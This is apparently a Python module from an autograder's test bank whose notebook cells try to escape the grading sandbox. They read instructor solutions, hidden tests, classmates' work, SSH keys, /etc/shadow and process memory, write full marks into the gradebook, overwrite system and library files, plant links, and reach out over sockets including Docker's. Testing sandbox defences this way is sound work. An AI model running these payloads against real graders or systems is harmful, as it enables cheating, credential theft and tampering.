"""Attacks on what lies outside the student's folder. What they get hold of they print after the word STOLEN."""

from __future__ import annotations

from nbformat import NotebookNode

from autograder.bank.attacks import Targets, attack, with_cell

READ = '''
import glob, os
def read(*patterns):
    """Print the beginning of every file that can be read."""
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True):
            try:
                with open(path, "rb") as file:
                    print("STOLEN", path, file.read(200))
            except OSError as error:
                print("refused:", type(error).__name__)
'''

WRITE = """
import os
def write(*paths):
    for path in paths:
        try:
            with open(path, "a") as file:
                file.write("ATTACKED")
            print("wrote", path)
        except OSError as error:
            print("refused:", type(error).__name__)
"""


@attack("grader's folders", quick=True)
def solutions_read(notebook: NotebookNode, targets: Targets) -> NotebookNode:
    """Reads the instructor's notebooks."""
    return with_cell(notebook, f"{READ}\nread({targets.solutions!r} + '/**/*.ipynb')")


@attack("grader's folders")
def hidden_tests_read(notebook: NotebookNode, targets: Targets) -> NotebookNode:
    """Looks for hidden tests in its folder, the grader's working folders, the history and the cells to come."""
    source = f"""
{READ}
read({targets.work!r} + "/**/*.ipynb", "**/*.ipynb", "/tmp/**/*.ipynb", "/student/**/*.ipynb")
import gc
texts = [text for text in gc.get_objects() if isinstance(text, str)] + [str(In), str(get_ipython().user_ns)[:100000]]
mark = "BEGIN HIDDEN" + " TESTS"
print("STOLEN tests" if any(mark in text for text in texts) else "no tests")
"""
    return with_cell(notebook, source)


@attack("grader's folders")
def classmates_read(notebook: NotebookNode, targets: Targets) -> NotebookNode:
    """Reads what another student of the class handed in, where it was collected and where it runs."""
    source = f"""
{READ}
read({targets.work!r} + "/submitted/{targets.victim}/**/*", {targets.work!r} + "/autograded/**/*", "/tmp/vae-*/**/*")
read({targets.outside!r} + "/*")
"""
    return with_cell(notebook, source)


@attack("grader's folders")
def gradebook_changed(notebook: NotebookNode, targets: Targets) -> NotebookNode:
    """Reads the gradebook and writes full marks into it."""
    source = f"""
{READ}
read({targets.work!r} + "/gradebook.db", {targets.work!r} + "/store/**/*")
import sqlite3
try:
    with sqlite3.connect({targets.work!r} + "/gradebook.db") as gradebook:
        gradebook.execute("UPDATE grade SET auto_score = max_score, manual_score = 100")
        print("STOLEN points")
except sqlite3.Error as error:
    print("refused:", error)
"""
    return with_cell(notebook, source)


@attack("/proc")
def secrets_read(notebook: NotebookNode, targets: Targets) -> NotebookNode:
    """Looks for the grader's environment: its own, other processes', and in the memory it was forked with."""
    source = f"""
{READ}
secret = "ATTACK_" + "SECRET"
found = [name for name in os.environ if secret in name]
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        found += [path] if secret.encode() in open(path, "rb").read() else []
    except OSError:
        pass
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        first, _, rest = line.partition(" ")
        low, high = (int(end, 16) for end in first.split("-"))
        if "[heap]" in line or "[stack]" in line:
            memory.seek(low)
            part = memory.read(min(high - low, 1 << 26))
            found += ["memory"] if ("secret of the " + "grader").encode() in part else []
print("STOLEN" if found else "no secrets", found)
read("/root/.ssh/*", "/home/*/.ssh/*", "/etc/shadow", "/proc/1/environ", "/proc/1/root/etc/passwd")
"""
    return with_cell(notebook, source)


@attack("outside its folder", quick=True)
def written_outside(notebook: NotebookNode, targets: Targets) -> NotebookNode:
    """Writes into the grader's folders, the library, the solutions, Python's packages and the sockets of its kernel."""
    source = f"""
{WRITE}
import numpy, sys
write({targets.outside!r} + "/secret.txt", {targets.outside!r} + "/attacked.txt")
write({targets.work!r} + "/gradebook.db", {targets.work!r} + "/outcomes/attacked.json", {targets.work!r} + "/attacked.txt")
write({targets.library!r} + "/checks/engine.py", {targets.library!r} + "/attacked.py")
write({targets.solutions!r} + "/01_build/attacked.ipynb")
write(numpy.__file__, os.path.dirname(numpy.__file__) + "/attacked.py", sys.executable)
write("/run/kernel/kernel.json", "/etc/passwd", "/attacked.txt", "../attacked.txt", "/proc/sys/kernel/core_pattern")
"""
    return with_cell(notebook, source)


@attack("outside its folder", "The kernel died")
def links_out(notebook: NotebookNode, targets: Targets) -> NotebookNode:
    """Puts symbolic and hard links to files outside into its folder, for itself and for the grader to follow."""
    source = f"""
{READ}{WRITE}
for number, path in enumerate([{targets.outside!r}, {targets.work!r}, {targets.solutions!r}, "/", "/etc/passwd"]):
    try:
        os.symlink(path, f"link-{{number}}")
        os.link(path, f"hard-{{number}}")
    except OSError as error:
        print("refused:", type(error).__name__)
read("link-0/*", "link-1/*", "link-2/*/*")
write("link-0/secret.txt", "link-0/attacked.txt", "link-1/gradebook.db")
own = os.getpid()
os.kill(own, 9)  # the next kernel starts in a folder full of links
"""
    return with_cell(notebook, source)


@attack("uses.*socket", quick=True)
def network_used(notebook: NotebookNode, targets: Targets) -> NotebookNode:
    """Calls out over TCP, UDP, names, and sockets of the grader's machine."""
    source = f"""
import socket
tried = [(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {targets.port})),
         (socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 53)),
         (socket.AF_INET, socket.SOCK_DGRAM, ("1.1.1.1", 53)),
         (socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + {targets.name!r}),
         (socket.AF_UNIX, socket.SOCK_STREAM, "/var/run/docker.sock")]
for family, kind, address in tried:
    try:
        with socket.socket(family, kind) as call:
            call.settimeout(1)
            call.connect(address)
            call.send(b"ATTACKED")
            print("STOLEN connection", address)
    except OSError as error:
        print("refused:", error)
try:
    print("STOLEN address", socket.getaddrinfo("example.org", 80))
except OSError as error:
    print("refused:", error)
"""
    return with_cell(notebook, source)
